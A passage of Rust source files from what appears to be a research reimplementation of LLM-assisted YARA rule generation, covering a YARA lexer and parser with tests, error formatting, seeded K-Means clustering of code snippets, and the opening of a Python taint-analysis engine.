        match &rs.rules[0].strings[0].value {
            StringValue::Text { mods, .. } => assert!(mods.nocase),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn condition_structure() {
        let rs = parse(GOOD).expect("parse");
        match &rs.rules[0].condition {
            Condition::Or(parts) => {
                assert_eq!(parts.len(), 2);
                assert!(matches!(&parts[0], Condition::And(_)));
                assert!(matches!(&parts[1], Condition::StringRef(id) if id == "url"));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn all_of_them() {
        let src = "rule r { strings: $a = \"x\" condition: all of them }";
        let rs = parse(src).expect("parse");
        assert!(matches!(
            rs.rules[0].condition,
            Condition::AllOf(StringSet::Them)
        ));
    }

    #[test]
    fn n_of_wildcard_set() {
        let src = "rule r { strings: $u1 = \"a\" $u2 = \"b\" condition: 2 of ($u*) }";
        let rs = parse(src).expect("parse");
        match &rs.rules[0].condition {
            Condition::NOf(2, StringSet::Patterns(pats)) => {
                assert!(pats[0].wildcard);
                assert_eq!(pats[0].prefix, "u");
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn count_and_at() {
        let src = "rule r { strings: $a = \"x\" condition: #a > 3 and $a at 0 }";
        let rs = parse(src).expect("parse");
        match &rs.rules[0].condition {
            Condition::And(parts) => {
                assert!(
                    matches!(&parts[0], Condition::Count { id, op, value } if id == "a" && op == ">" && *value == 3)
                );
                assert!(
                    matches!(&parts[1], Condition::At { id, offset } if id == "a" && *offset == 0)
                );
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn filesize_condition() {
        let src = "rule r { condition: filesize < 100KB }";
        let rs = parse(src).expect("parse");
        assert!(matches!(
            rs.rules[0].condition,
            Condition::Filesize { ref op, value } if op == "<" && value == 100 * 1024
        ));
    }

    #[test]
    fn multiple_rules() {
        let src = "rule a { condition: true } rule b { condition: false }";
        let rs = parse(src).expect("parse");
        assert_eq!(rs.rules.len(), 2);
    }

    #[test]
    fn missing_condition_is_error() {
        let src = "rule r { strings: $a = \"x\" }";
        let e = parse(src).unwrap_err();
        assert!(e.to_string().contains("has no condition section"), "{e}");
    }

    #[test]
    fn empty_strings_section_is_error() {
        let src = "rule r { strings: condition: true }";
        let e = parse(src).unwrap_err();
        assert!(e.to_string().contains("empty strings section"), "{e}");
    }

    #[test]
    fn missing_brace_is_error() {
        let src = "rule r condition: true }";
        let e = parse(src).unwrap_err();
        assert!(e.to_string().contains("expecting '{'"), "{e}");
    }

    #[test]
    fn reserved_word_rule_name() {
        let src = "rule condition { condition: true }";
        let e = parse(src).unwrap_err();
        assert!(e.to_string().contains("cannot be used"), "{e}");
    }

    #[test]
    fn invalid_meta_value() {
        let src = "rule r { meta: x = $a condition: true }";
        let e = parse(src).unwrap_err();
        assert!(e.to_string().contains("invalid meta value"), "{e}");
    }

    #[test]
    fn unsupported_modifier() {
        let src = "rule r { strings: $a = \"x\" xor condition: $a }";
        let e = parse(src).unwrap_err();
        assert!(e.to_string().contains("unsupported string modifier"), "{e}");
    }

    #[test]
    fn garbage_after_rules() {
        let src = "rule r { condition: true } garbage";
        let e = parse(src).unwrap_err();
        assert!(e.to_string().contains("expecting rule"), "{e}");
    }

    #[test]
    fn import_header_ignored() {
        let src = "import \"pe\"\nrule r { condition: true }";
        let rs = parse(src).expect("parse");
        assert_eq!(rs.rules.len(), 1);
    }

    #[test]
    fn error_reports_line() {
        let src = "rule r {\n  strings:\n    $a = \n  condition: $a\n}";
        let e = parse(src).unwrap_err();
        assert_eq!(e.line, 4, "{e}");
    }
}

//! YARA rule tokenizer.

use crate::error::CompileError;

/// Kinds of YARA tokens.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TokenKind {
    /// A bare identifier or keyword (`rule`, `meta`, names...).
    Ident(String),
    /// `$name` string identifier; `$` alone has an empty name.
    StringId(String),
    /// `#name` count identifier.
    CountId(String),
    /// Double-quoted text string, unescaped.
    Text(String),
    /// `/pattern/flags` regex literal.
    Regex {
        /// Pattern body between the slashes.
        pattern: String,
        /// `true` when the `i` flag was present.
        nocase: bool,
    },
    /// Decimal integer literal (supports `KB`/`MB` suffixes).
    Int(i64),
    /// One punctuation glyph or operator.
    Punct(String),
    /// End of input.
    Eof,
}

/// A token with its source line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Token {
    /// What was lexed.
    pub kind: TokenKind,
    /// 1-based line number.
    pub line: usize,
}

/// Tokenizes YARA `source`.
///
/// # Errors
///
/// * `unterminated string` — a `"` literal that hits end of line/input;
/// * `unterminated regular expression` — a `/` literal that never closes;
/// * `file encoding must be UTF-8 without BOM` — leading U+FEFF (the
///   paper's Table V instruction 6 covers exactly this failure).
pub fn lex(source: &str) -> Result<Vec<Token>, CompileError> {
    if source.starts_with('\u{FEFF}') {
        return Err(CompileError::new(
            1,
            "file encoding must be UTF-8 without BOM",
        ));
    }
    let bytes = source.as_bytes();
    let mut toks = Vec::new();
    let mut pos = 0usize;
    let mut line = 1usize;
    while pos < bytes.len() {
        let b = bytes[pos];
        match b {
            b'\n' => {
                line += 1;
                pos += 1;
            }
            b' ' | b'\t' | b'\r' => pos += 1,
            b'/' if bytes.get(pos + 1) == Some(&b'/') => {
                // Line comment.
                while pos < bytes.len() && bytes[pos] != b'\n' {
                    pos += 1;
                }
            }
            b'/' if bytes.get(pos + 1) == Some(&b'*') => {
                // Block comment.
                pos += 2;
                while pos + 1 < bytes.len() && !(bytes[pos] == b'*' && bytes[pos + 1] == b'/') {
                    if bytes[pos] == b'\n' {
                        line += 1;
                    }
                    pos += 1;
                }
                pos = (pos + 2).min(bytes.len());
            }
            b'/' => {
                // Regex literal. Only valid where a string value or
                // condition operand may start; the parser validates
                // context, the lexer just scans it.
                let start_line = line;
                pos += 1;
                let mut pattern = String::new();
                let mut closed = false;
                while pos < bytes.len() {
                    match bytes[pos] {
                        b'\\' if pos + 1 < bytes.len() => {
                            // Escapes pass through to the regex engine,
                            // except an escaped slash which is a literal /.
                            if bytes[pos + 1] == b'/' {
                                pattern.push('/');
                            } else {
                                pattern.push('\\');
                                pattern.push(bytes[pos + 1] as char);
                            }
                            pos += 2;
                        }
                        b'/' => {
                            pos += 1;
                            closed = true;
                            break;
                        }
                        b'\n' => break,
                        other => {
                            pattern.push(other as char);
                            pos += 1;
                        }
                    }
                }
                if !closed {
                    return Err(CompileError::new(
                        start_line,
                        "unterminated regular expression",
                    ));
                }
                let mut nocase = false;
                while pos < bytes.len() && (bytes[pos] == b'i' || bytes[pos] == b's') {
                    if bytes[pos] == b'i' {
                        nocase = true;
                    }
                    pos += 1;
                }
                toks.push(Token {
                    kind: TokenKind::Regex { pattern, nocase },
                    line: start_line,
                });
            }
            b'"' => {
                let start_line = line;
                pos += 1;
                let mut text = String::new();
                let mut closed = false;
                while pos < bytes.len() {
                    match bytes[pos] {
                        b'"' => {
                            pos += 1;
                            closed = true;
                            break;
                        }
                        b'\n' => break,
                        b'\\' if pos + 1 < bytes.len() => {
                            match bytes[pos + 1] {
                                b'n' => text.push('\n'),
                                b't' => text.push('\t'),
                                b'r' => text.push('\r'),
                                b'"' => text.push('"'),
                                b'\\' => text.push('\\'),
                                b'x' => {
                                    let h1 = bytes.get(pos + 2).copied();
                                    let h2 = bytes.get(pos + 3).copied();
                                    match (h1.and_then(hexval), h2.and_then(hexval)) {
                                        (Some(a), Some(b)) => {
                                            text.push(((a << 4) | b) as char);
                                            pos += 2;
                                        }
                                        _ => {
                                            return Err(CompileError::new(
                                                line,
                                                "invalid \\x escape in string",
                                            ))
                                        }
                                    }
                                }
                                other => {
                                    text.push('\\');
                                    text.push(other as char);
                                }
                            }
                            pos += 2;
                        }
                        other => {
                            text.push(other as char);
                            pos += 1;
                        }
                    }
                }
                if !closed {
                    return Err(CompileError::new(start_line, "unterminated string"));
                }
                toks.push(Token {
                    kind: TokenKind::Text(text),
                    line: start_line,
                });
            }
            b'$' | b'#' => {
                let sigil = b;
                pos += 1;
                let start = pos;
                while pos < bytes.len()
                    && (bytes[pos].is_ascii_alphanumeric() || bytes[pos] == b'_')
                {
                    pos += 1;
                }
                let name = String::from_utf8_lossy(&bytes[start..pos]).into_owned();
                let kind = if sigil == b'$' {
                    TokenKind::StringId(name)
                } else {
                    TokenKind::CountId(name)
                };
                toks.push(Token { kind, line });
            }
            b'0'..=b'9' => {
                let start = pos;
                while pos < bytes.len() && bytes[pos].is_ascii_digit() {
                    pos += 1;
                }
                let mut value: i64 = std::str::from_utf8(&bytes[start..pos])
                    .expect("digits are utf8")
                    .parse()
                    .map_err(|_| CompileError::new(line, "integer literal too large"))?;
                // KB / MB suffixes.
                if bytes[pos..].starts_with(b"KB") {
                    value = value.saturating_mul(1024);
                    pos += 2;
                } else if bytes[pos..].starts_with(b"MB") {
                    value = value.saturating_mul(1024 * 1024);
                    pos += 2;
                }
                toks.push(Token {
                    kind: TokenKind::Int(value),
                    line,
                });
            }
            b if b.is_ascii_alphabetic() || b == b'_' => {
                let start = pos;
                while pos < bytes.len()
                    && (bytes[pos].is_ascii_alphanumeric() || bytes[pos] == b'_')
                {
                    pos += 1;
                }
                toks.push(Token {
                    kind: TokenKind::Ident(
                        String::from_utf8_lossy(&bytes[start..pos]).into_owned(),
                    ),
                    line,
                });
            }
            _ => {
                // Multi-char comparison operators.
                let two: &[u8] = &bytes[pos..(pos + 2).min(bytes.len())];
                let glyph = match two {
                    b">=" | b"<=" | b"==" | b"!=" => {
                        pos += 2;
                        String::from_utf8_lossy(two).into_owned()
                    }
                    _ => {
                        pos += 1;
                        (b as char).to_string()
                    }
                };
                toks.push(Token {
                    kind: TokenKind::Punct(glyph),
                    line,
                });
            }
        }
    }
    toks.push(Token {
        kind: TokenKind::Eof,
        line,
    });
    Ok(toks)
}

fn hexval(b: u8) -> Option<u8> {
    match b {
        b'0'..=b'9' => Some(b - b'0'),
        b'a'..=b'f' => Some(b - b'a' + 10),
        b'A'..=b'F' => Some(b - b'A' + 10),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(src: &str) -> Vec<TokenKind> {
        lex(src)
            .expect("lex ok")
            .into_iter()
            .map(|t| t.kind)
            .collect()
    }

    #[test]
    fn basic_rule_shape() {
        let k = kinds("rule test { condition: true }");
        assert_eq!(k[0], TokenKind::Ident("rule".into()));
        assert_eq!(k[1], TokenKind::Ident("test".into()));
        assert_eq!(k[2], TokenKind::Punct("{".into()));
    }

    #[test]
    fn string_identifier() {
        let k = kinds("$a = \"x\"");
        assert_eq!(k[0], TokenKind::StringId("a".into()));
        assert_eq!(k[2], TokenKind::Text("x".into()));
    }

    #[test]
    fn count_identifier() {
        let k = kinds("#payload > 2");
        assert_eq!(k[0], TokenKind::CountId("payload".into()));
        assert_eq!(k[1], TokenKind::Punct(">".into()));
        assert_eq!(k[2], TokenKind::Int(2));
    }

    #[test]
    fn text_escapes() {
        let k = kinds(r#""a\nb\"c\\d\x41""#);
        assert_eq!(k[0], TokenKind::Text("a\nb\"c\\dA".into()));
    }

    #[test]
    fn regex_literal_with_flag() {
        let k = kinds(r"/https?:\/\/[a-z]+/i");
        match &k[0] {
            TokenKind::Regex { pattern, nocase } => {
                assert_eq!(pattern, "https?://[a-z]+");
                assert!(nocase);
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn comments_skipped() {
        let k = kinds("rule a // comment\n/* block\ncomment */ { }");
        assert_eq!(k.len(), 5); // rule a { } EOF
    }

    #[test]
    fn size_suffixes() {
        let k = kinds("filesize < 10KB");
        assert!(k.contains(&TokenKind::Int(10 * 1024)));
    }

    #[test]
    fn unterminated_string_error() {
        let e = lex("$a = \"oops\n").unwrap_err();
        assert_eq!(e.to_string(), "line 1: unterminated string");
    }

    #[test]
    fn unterminated_regex_error() {
        let e = lex("$a = /oops\n").unwrap_err();
        assert!(e.to_string().contains("unterminated regular expression"));
    }

    #[test]
    fn bom_rejected() {
        let e = lex("\u{FEFF}rule x { condition: true }").unwrap_err();
        assert!(e.to_string().contains("BOM"));
    }

    #[test]
    fn line_numbers() {
        let toks = lex("rule x\n{\n  condition:\n  true\n}").expect("lex");
        let cond = toks
            .iter()
            .find(|t| matches!(&t.kind, TokenKind::Ident(i) if i == "condition"))
            .expect("condition token");
        assert_eq!(cond.line, 3);
    }

    #[test]
    fn comparison_operators() {
        let k = kinds("#a >= 2 and #b != 3");
        assert!(k.contains(&TokenKind::Punct(">=".into())));
        assert!(k.contains(&TokenKind::Punct("!=".into())));
    }
}

use std::error::Error;
use std::fmt;

/// A YARA compilation error with a yara-style message.
///
/// The alignment agent of the paper (§IV-C, Table V) feeds these messages
/// back to the LLM, so the text mirrors real `yarac` phrasing:
/// `line 3: undefined string "$a"`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CompileError {
    /// 1-based line in the rule source, 0 when not line-specific.
    pub line: usize,
    /// yara-style description.
    pub message: String,
}

impl CompileError {
    /// Creates an error pinned to `line`.
    pub fn new(line: usize, message: impl Into<String>) -> Self {
        CompileError {
            line,
            message: message.into(),
        }
    }

    /// Creates an error not attributable to a specific line.
    pub fn global(message: impl Into<String>) -> Self {
        CompileError {
            line: 0,
            message: message.into(),
        }
    }
}

impl fmt::Display for CompileError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.line > 0 {
            write!(f, "line {}: {}", self.line, self.message)
        } else {
            write!(f, "error: {}", self.message)
        }
    }
}

impl Error for CompileError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn line_error_format() {
        let e = CompileError::new(4, "undefined string \"$a\"");
        assert_eq!(e.to_string(), "line 4: undefined string \"$a\"");
    }

    #[test]
    fn global_error_format() {
        let e = CompileError::global("duplicated rule identifier \"x\"");
        assert_eq!(e.to_string(), "error: duplicated rule identifier \"x\"");
    }
}

//! Property-based tests for the K-Means substrate.

use cluster::{intra_similarity, KMeans};
use proptest::prelude::*;

fn arbitrary_points(n: usize, dim: usize, seed: u64) -> Vec<Vec<f32>> {
    // Deterministic pseudo-random points derived from the seed.
    let mut state = seed.wrapping_mul(0x9E3779B97F4A7C15) | 1;
    (0..n)
        .map(|_| {
            (0..dim)
                .map(|_| {
                    state ^= state << 13;
                    state ^= state >> 7;
                    state ^= state << 17;
                    ((state % 2000) as f32 / 1000.0) - 1.0
                })
                .collect()
        })
        .collect()
}

proptest! {
    #[test]
    fn labels_are_always_valid(n in 2usize..40, k in 1usize..8, seed in any::<u64>()) {
        let points = arbitrary_points(n, 4, seed);
        let result = KMeans::new(k).fit(&points).expect("fit");
        prop_assert_eq!(result.labels.len(), n);
        prop_assert!(result.labels.iter().all(|&l| l < result.centroids.len()));
        prop_assert!(!result.centroids.is_empty());
        prop_assert!(result.centroids.len() <= k.min(n));
    }

    #[test]
    fn fit_is_deterministic(n in 2usize..30, k in 1usize..6, seed in any::<u64>()) {
        let points = arbitrary_points(n, 3, seed);
        let a = KMeans::new(k).fit(&points).expect("fit");
        let b = KMeans::new(k).fit(&points).expect("fit");
        prop_assert_eq!(a.labels, b.labels);
    }

    #[test]
    fn inertia_is_non_negative_and_zero_for_identical(n in 2usize..30, seed in any::<u64>()) {
        let points = arbitrary_points(n, 3, seed);
        let r = KMeans::new(3).fit(&points).expect("fit");
        prop_assert!(r.inertia >= 0.0);
        let same = vec![points[0].clone(); n];
        let r2 = KMeans::new(2).fit(&same).expect("fit");
        prop_assert!(r2.inertia < 1e-6);
    }

    #[test]
    fn every_point_belongs_to_its_nearest_kept_centroid(n in 4usize..30, seed in any::<u64>()) {
        let points = arbitrary_points(n, 2, seed);
        let r = KMeans::new(3).fit(&points).expect("fit");
        for (p, &label) in points.iter().zip(&r.labels) {
            let d = |c: &Vec<f32>| -> f32 {
                c.iter().zip(p).map(|(a, b)| (a - b) * (a - b)).sum()
            };
            let own = d(&r.centroids[label]);
            for c in &r.centroids {
                prop_assert!(own <= d(c) + 1e-4);
            }
        }
    }

    #[test]
    fn intra_similarity_bounds(n in 1usize..10, seed in any::<u64>()) {
        let points = arbitrary_points(n, 4, seed);
        let refs: Vec<&Vec<f32>> = points.iter().collect();
        let s = intra_similarity(&refs);
        prop_assert!((-1.0..=1.0 + 1e-6).contains(&s), "{s}");
    }
}

//! `rulellm-cluster` — K-Means clustering substrate.
//!
//! §III-B of the paper groups similar malware code snippets with
//! scikit-learn's K-Means: random seed 42, max 500 iterations, Euclidean
//! distance, and clusters whose intra-similarity falls below 0.85 are
//! discarded. This crate reimplements exactly that contract (k-means++
//! initialization, seeded, deterministic).
//!
//! # Examples
//!
//! ```
//! use cluster::KMeans;
//!
//! let points = vec![
//!     vec![0.0, 0.0], vec![0.1, 0.0], vec![0.0, 0.1],
//!     vec![5.0, 5.0], vec![5.1, 5.0], vec![5.0, 5.1],
//! ];
//! let result = KMeans::new(2).fit(&points)?;
//! assert_eq!(result.labels[0], result.labels[1]);
//! assert_ne!(result.labels[0], result.labels[3]);
//! # Ok::<(), cluster::ClusterError>(())
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

use std::error::Error;
use std::fmt;

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// The paper's K-Means seed (§III-B).
pub const PAPER_SEED: u64 = 42;
/// The paper's iteration cap (§III-B).
pub const PAPER_MAX_ITER: usize = 500;
/// The paper's intra-similarity retention threshold (§III-B).
pub const PAPER_SIMILARITY_THRESHOLD: f32 = 0.85;

/// Errors from clustering.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ClusterError {
    /// `k` was zero.
    ZeroK,
    /// No input points were supplied.
    EmptyInput,
    /// Input vectors have inconsistent dimensionality.
    DimensionMismatch,
}

impl fmt::Display for ClusterError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ClusterError::ZeroK => write!(f, "k must be at least 1"),
            ClusterError::EmptyInput => write!(f, "no points to cluster"),
            ClusterError::DimensionMismatch => {
                write!(f, "points have inconsistent dimensions")
            }
        }
    }
}

impl Error for ClusterError {}

/// Result of a K-Means fit.
#[derive(Debug, Clone, PartialEq)]
pub struct KMeansResult {
    /// Cluster centroids; `centroids.len() <= k` (empty clusters dropped).
    pub centroids: Vec<Vec<f32>>,
    /// Per-point cluster index into `centroids`.
    pub labels: Vec<usize>,
    /// Iterations actually executed.
    pub iterations: usize,
    /// Sum of squared distances of points to their centroid (inertia).
    pub inertia: f32,
}

impl KMeansResult {
    /// Point indices belonging to cluster `c`.
    pub fn members(&self, c: usize) -> Vec<usize> {
        self.labels
            .iter()
            .enumerate()
            .filter(|(_, l)| **l == c)
            .map(|(i, _)| i)
            .collect()
    }
}

/// Seeded K-Means with k-means++ initialization.
#[derive(Debug, Clone)]
pub struct KMeans {
    k: usize,
    seed: u64,
    max_iter: usize,
}

impl KMeans {
    /// Creates a K-Means with the paper's defaults (seed 42, 500 iters).
    pub fn new(k: usize) -> Self {
        KMeans {
            k,
            seed: PAPER_SEED,
            max_iter: PAPER_MAX_ITER,
        }
    }

    /// Overrides the random seed.
    pub fn with_seed(mut self, seed: u64) -> Self {
        self.seed = seed;
        self
    }

    /// Overrides the iteration cap.
    pub fn with_max_iter(mut self, max_iter: usize) -> Self {
        self.max_iter = max_iter;
        self
    }

    /// Fits the model to `points`.
    ///
    /// # Errors
    ///
    /// [`ClusterError::ZeroK`], [`ClusterError::EmptyInput`] or
    /// [`ClusterError::DimensionMismatch`].
    pub fn fit(&self, points: &[Vec<f32>]) -> Result<KMeansResult, ClusterError> {
        if self.k == 0 {
            return Err(ClusterError::ZeroK);
        }
        if points.is_empty() {
            return Err(ClusterError::EmptyInput);
        }
        let dim = points[0].len();
        if points.iter().any(|p| p.len() != dim) {
            return Err(ClusterError::DimensionMismatch);
        }
        let k = self.k.min(points.len());
        let mut rng = StdRng::seed_from_u64(self.seed);
        let mut centroids = kmeanspp_init(points, k, &mut rng);
        let mut labels = vec![0usize; points.len()];
        let mut iterations = 0;
        for it in 0..self.max_iter {
            iterations = it + 1;
            // Assignment step.
            let mut changed = false;
            for (i, p) in points.iter().enumerate() {
                let nearest = nearest_centroid(p, &centroids);
                if labels[i] != nearest {
                    labels[i] = nearest;
                    changed = true;
                }
            }
            // Update step.
            let mut sums = vec![vec![0f32; dim]; centroids.len()];
            let mut counts = vec![0usize; centroids.len()];
            for (p, &l) in points.iter().zip(&labels) {
                counts[l] += 1;
                for (s, x) in sums[l].iter_mut().zip(p) {
                    *s += x;
                }
            }
            for (c, (sum, &count)) in centroids.iter_mut().zip(sums.iter().zip(&counts)) {
                if count > 0 {
                    for (cc, s) in c.iter_mut().zip(sum) {
                        *cc = s / count as f32;
                    }
                }
            }
            if !changed && it > 0 {
                break;
            }
        }
        // Drop empty clusters and re-index labels.
        let mut remap = vec![usize::MAX; centroids.len()];
        let mut kept = Vec::new();
        for (ci, c) in centroids.into_iter().enumerate() {
            if labels.contains(&ci) {
                remap[ci] = kept.len();
                kept.push(c);
            }
        }
        for l in &mut labels {
            *l = remap[*l];
        }
        let inertia = points
            .iter()
            .zip(&labels)
            .map(|(p, &l)| sqdist(p, &kept[l]))
            .sum();
        Ok(KMeansResult {
            centroids: kept,
            labels,
            iterations,
            inertia,
        })
    }
}

fn kmeanspp_init(points: &[Vec<f32>], k: usize, rng: &mut StdRng) -> Vec<Vec<f32>> {
    let mut centroids = Vec::with_capacity(k);
    centroids.push(points[rng.gen_range(0..points.len())].clone());
    while centroids.len() < k {
        let dists: Vec<f32> = points
            .iter()
            .map(|p| {
                centroids
                    .iter()
                    .map(|c| sqdist(p, c))
                    .fold(f32::INFINITY, f32::min)
            })
            .collect();
        let total: f32 = dists.iter().sum();
        if total <= f32::EPSILON {
            // All points identical to existing centroids.
            centroids.push(points[rng.gen_range(0..points.len())].clone());
            continue;
        }
        let mut target = rng.gen_range(0.0..total);
        let mut chosen = points.len() - 1;
        for (i, d) in dists.iter().enumerate() {
            if target < *d {
                chosen = i;
                break;
            }
            target -= d;
        }
        centroids.push(points[chosen].clone());
    }
    centroids
}

fn nearest_centroid(p: &[f32], centroids: &[Vec<f32>]) -> usize {
    let mut best = 0;
    let mut best_d = f32::INFINITY;
    for (i, c) in centroids.iter().enumerate() {
        let d = sqdist(p, c);
        if d < best_d {
            best_d = d;
            best = i;
        }
    }
    best
}

fn sqdist(a: &[f32], b: &[f32]) -> f32 {
    a.iter().zip(b).map(|(x, y)| (x - y) * (x - y)).sum()
}

/// Mean pairwise cosine similarity of the vectors in one cluster.
///
/// Returns 1.0 for singleton clusters (a single snippet is trivially
/// homogeneous).
pub fn intra_similarity(points: &[&Vec<f32>]) -> f32 {
    if points.len() < 2 {
        return 1.0;
    }
    let mut total = 0f32;
    let mut pairs = 0usize;
    for i in 0..points.len() {
        for j in (i + 1)..points.len() {
            total += cosine(points[i], points[j]);
            pairs += 1;
        }
    }
    total / pairs as f32
}

fn cosine(a: &[f32], b: &[f32]) -> f32 {
    let dot: f32 = a.iter().zip(b).map(|(x, y)| x * y).sum();
    let na: f32 = a.iter().map(|x| x * x).sum::<f32>().sqrt();
    let nb: f32 = b.iter().map(|x| x * x).sum::<f32>().sqrt();
    if na == 0.0 || nb == 0.0 {
        0.0
    } else {
        dot / (na * nb)
    }
}

/// Groups points per §III-B: K-Means, then discard clusters whose
/// intra-similarity is below `threshold` (the paper uses 0.85).
///
/// Returns the retained clusters as lists of point indices.
///
/// # Errors
///
/// Propagates [`ClusterError`] from the underlying fit.
pub fn group_with_threshold(
    points: &[Vec<f32>],
    k: usize,
    threshold: f32,
) -> Result<Vec<Vec<usize>>, ClusterError> {
    let result = KMeans::new(k).fit(points)?;
    let mut retained = Vec::new();
    for c in 0..result.centroids.len() {
        let members = result.members(c);
        let vectors: Vec<&Vec<f32>> = members.iter().map(|&i| &points[i]).collect();
        if intra_similarity(&vectors) >= threshold {
            retained.push(members);
        }
    }
    Ok(retained)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn two_blobs() -> Vec<Vec<f32>> {
        let mut pts = Vec::new();
        for i in 0..10 {
            pts.push(vec![0.0 + i as f32 * 0.01, 1.0]);
            pts.push(vec![5.0 + i as f32 * 0.01, -1.0]);
        }
        pts
    }

    #[test]
    fn separates_two_blobs() {
        let r = KMeans::new(2).fit(&two_blobs()).expect("fit");
        assert_eq!(r.centroids.len(), 2);
        // All even indices together, all odd together.
        let first = r.labels[0];
        for i in (0..20).step_by(2) {
            assert_eq!(r.labels[i], first);
        }
        assert_ne!(r.labels[1], first);
    }

    #[test]
    fn deterministic_across_runs() {
        let pts = two_blobs();
        let a = KMeans::new(3).fit(&pts).expect("fit");
        let b = KMeans::new(3).fit(&pts).expect("fit");
        assert_eq!(a.labels, b.labels);
        assert_eq!(a.centroids, b.centroids);
    }

    #[test]
    fn different_seed_may_differ_but_is_valid() {
        let pts = two_blobs();
        let r = KMeans::new(2).with_seed(7).fit(&pts).expect("fit");
        assert_eq!(r.labels.len(), pts.len());
        assert!(r.labels.iter().all(|&l| l < r.centroids.len()));
    }

    #[test]
    fn k_larger_than_points_is_clamped() {
        let pts = vec![vec![0.0], vec![1.0]];
        let r = KMeans::new(10).fit(&pts).expect("fit");
        assert!(r.centroids.len() <= 2);
    }

    #[test]
    fn zero_k_is_error() {
        assert_eq!(KMeans::new(0).fit(&[vec![1.0]]), Err(ClusterError::ZeroK));
    }

    #[test]
    fn empty_input_is_error() {
        assert_eq!(KMeans::new(2).fit(&[]), Err(ClusterError::EmptyInput));
    }

    #[test]
    fn dimension_mismatch_is_error() {
        let pts = vec![vec![1.0], vec![1.0, 2.0]];
        assert_eq!(
            KMeans::new(1).fit(&pts),
            Err(ClusterError::DimensionMismatch)
        );
    }

    #[test]
    fn identical_points_single_cluster() {
        let pts = vec![vec![1.0, 1.0]; 8];
        let r = KMeans::new(3).fit(&pts).expect("fit");
        assert!(r.inertia < 1e-6);
    }

    #[test]
    fn inertia_decreases_with_more_clusters() {
        let pts = two_blobs();
        let r1 = KMeans::new(1).fit(&pts).expect("fit");
        let r2 = KMeans::new(2).fit(&pts).expect("fit");
        assert!(r2.inertia < r1.inertia);
    }

    #[test]
    fn intra_similarity_of_identical_vectors_is_one() {
        let v = vec![1.0f32, 2.0, 3.0];
        let pts = [&v, &v, &v];
        assert!((intra_similarity(&pts) - 1.0).abs() < 1e-6);
    }

    #[test]
    fn intra_similarity_singleton_is_one() {
        let v = vec![1.0f32];
        assert_eq!(intra_similarity(&[&v]), 1.0);
    }

    #[test]
    fn orthogonal_vectors_low_similarity() {
        let a = vec![1.0f32, 0.0];
        let b = vec![0.0f32, 1.0];
        assert!(intra_similarity(&[&a, &b]) < 0.1);
    }

    #[test]
    fn group_with_threshold_discards_heterogeneous() {
        // Blob of near-identical vectors + a scatter of orthogonal ones.
        let mut pts = vec![vec![1.0f32, 0.0, 0.0]; 6];
        pts.push(vec![0.0, 1.0, 0.0]);
        pts.push(vec![0.0, -1.0, 0.3]);
        pts.push(vec![0.0, 0.2, -1.0]);
        let groups = group_with_threshold(&pts, 4, 0.85).expect("group");
        // The homogeneous blob is retained as one cluster; whatever
        // clusters the scatter points land in must also satisfy the
        // threshold or be discarded.
        assert!(groups.iter().any(|g| g.len() >= 6));
        for g in &groups {
            let vectors: Vec<&Vec<f32>> = g.iter().map(|&i| &pts[i]).collect();
            assert!(intra_similarity(&vectors) >= 0.85);
        }
    }

    #[test]
    fn members_returns_cluster_indices() {
        let pts = two_blobs();
        let r = KMeans::new(2).fit(&pts).expect("fit");
        let m0 = r.members(0);
        let m1 = r.members(1);
        assert_eq!(m0.len() + m1.len(), pts.len());
    }

    #[test]
    fn paper_constants() {
        assert_eq!(PAPER_SEED, 42);
        assert_eq!(PAPER_MAX_ITER, 500);
        assert!((PAPER_SIMILARITY_THRESHOLD - 0.85).abs() < f32::EPSILON);
    }
}

//! The intra-procedural taint engine.
//!
//! One linear pass per scope: statements are processed in program
//! order, sharing a mutable environment of variable → taint bindings
//! and variable → constant-string bindings. Function and class bodies
//! are analyzed in a child environment seeded from the enclosing one
//! (module-level constants and imports stay visible), with no
//! cross-call propagation — the soundness boundary `docs/
//! threat_model.md` documents. There is no fixpoint iteration, so cost
//! is linear in statement count and output is deterministic.

use std::collections::{BTreeMap, HashSet};
use std::sync::Arc;

use pysrc::{Arg, Expr, Module, Stmt};

use crate::catalog::{is_startup_path, sink_of, source_of, SinkKind, SourceKind};
use crate::fold;
use crate::{FlowFinding, FlowStep, FoldedConst, TaintSummary};

/// Bound on distinct taints carried per binding (dedup by source path
/// keeps this small in practice; the cap defends against adversarial
/// fan-in).
const MAX_TAINTS: usize = 8;
/// Bound on steps retained per chain: first steps (the source and early
/// carries) plus the final sink step always survive.
const MAX_STEPS: usize = 12;
/// Bound on recorded folded constants per module.
const MAX_FOLDED: usize = 64;
/// Folded constants shorter than this are noise (`'po' + 'st'` matters
/// for callee folding but not as a scan layer).
const MIN_FOLDED_LEN: usize = 4;
/// Notes longer than this are truncated — chains must stay cheap to
/// store in the artifact cache.
const MAX_NOTE_LEN: usize = 96;

/// One taint mark: where the value came from and how it got here.
#[derive(Debug, Clone)]
struct Taint {
    source: String,
    kind: SourceKind,
    steps: Vec<FlowStep>,
}

/// A lexical scope's environment. `BTreeMap` keeps iteration (and
/// therefore every derived artifact) deterministic.
#[derive(Debug, Clone, Default)]
struct Scope {
    /// Tainted bindings.
    vars: BTreeMap<String, Vec<Taint>>,
    /// Constant-string bindings (for folding through locals).
    consts: BTreeMap<String, String>,
    /// Import bindings: local name → canonical dotted path.
    aliases: BTreeMap<String, String>,
    /// Every import binding anywhere in the module, used as a fallback
    /// when a name has no in-scope binding. Obfuscators rewrite call
    /// spellings textually — `ctx.post(...)` can appear in a function
    /// whose `import requests as ctx` lives in a sibling — and the
